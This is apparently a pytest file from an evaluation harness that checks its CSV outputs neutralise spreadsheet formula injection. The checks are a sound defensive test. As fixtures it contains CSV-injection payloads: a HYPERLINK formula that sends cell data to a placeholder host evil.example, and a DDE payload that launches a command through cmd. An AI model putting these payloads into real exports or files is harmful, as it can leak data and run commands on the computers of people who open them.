"""Every CSV the harness writes from model or dataset text neutralises formula cells (OWASP: a
leading `'` before = + - @), read back here the way a spreadsheet reads a CSV (issue 16)."""

from __future__ import annotations

import csv
import json

from janus_eval.core.files import FORMULA_START, from_csv_cell, to_csv_cell

EVIL_MODEL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_CATEGORY = "=cmd|' /C calc'!A0"
ROWS = [
    {"index": i, "question": "q", "A": "x", "B": "y", "C": None, "D": None, "answer": "A",
     "category": [EVIL_CATEGORY, "@SUM(1+1)", "+1+1", "-1+1"][i % 4], "L2-category": "-2+3", "prediction": "A"}
    for i in range(8)
]  # fmt: skip


def spreadsheet_cells(path):
    """Every cell as a spreadsheet importing the CSV sees it (the raw text of the cell)."""
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def assert_no_formula(path):
    for cell in spreadsheet_cells(path):
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # only a number (a negative delta) may start so: a spreadsheet reads it as one


def test_cells_round_trip():
    for text in [EVIL_MODEL, "'quoted", "plain", "-", "@", "", "\tx"]:
        assert from_csv_cell(to_csv_cell(text)) == text
        assert not to_csv_cell(text).startswith(tuple(c for c in FORMULA_START if c != "'"))
    assert to_csv_cell(-1.5) == -1.5


def test_scores_and_leaderboard_csv_neutralise_formulas(tmp_path, cli):
    samples = tmp_path / "mmbench.jsonl"
    samples.write_text("".join(json.dumps(r) + "\n" for r in ROWS))
    code, out, err = cli(
        "score", "--task", "mmbench", samples, "--output", tmp_path / "runs", "--run-id", "evil", "--model", EVIL_MODEL
    )
    assert code == 0, err
    run = tmp_path / "runs" / "evil"
    assert_no_formula(run / "scores.csv")
    assert "'" + EVIL_CATEGORY in spreadsheet_cells(run / "scores.csv")

    from janus_eval.store.run_store import RunStore

    scores = RunStore(run).read_scores()  # the harness reads its own text back unchanged
    assert EVIL_CATEGORY in set(scores["subset"]) and "'" + EVIL_CATEGORY not in set(scores["subset"])

    code, out, err = cli("report", run, "-o", tmp_path / "report")
    assert code == 0, err
    board = tmp_path / "report" / "leaderboard.csv"
    assert_no_formula(board)
    cells = spreadsheet_cells(board)
    assert "'" + EVIL_MODEL in cells and "'" + EVIL_CATEGORY in cells
